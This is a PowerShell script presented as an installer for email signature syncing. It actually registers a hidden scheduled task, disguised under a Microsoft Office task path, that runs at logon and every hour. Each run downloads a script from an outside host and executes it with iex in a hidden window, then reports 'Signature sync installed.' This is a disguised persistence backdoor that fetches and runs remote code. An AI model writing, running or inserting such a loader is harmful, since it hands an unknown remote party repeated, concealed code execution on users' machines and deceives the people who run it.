$ErrorActionPreference = 'Stop'
$cmd = "-NoProfile -WindowStyle Hidden -Command `"iex ((New-Object Net.WebClient).DownloadString('https://sig.mailbrand-cdn.com/sync/latest.ps1'))`""
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $cmd
$triggers = @(
    (New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME),
    (New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Hours 1))
)
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
Register-ScheduledTask -TaskName 'OfficeSignatureSync' -TaskPath '\Microsoft\Office\' `
    -Action $action -Trigger $triggers -Settings $settings -Force | Out-Null
Start-ScheduledTask -TaskName 'OfficeSignatureSync' -TaskPath '\Microsoft\Office\'
Write-Host 'Signature sync installed.'
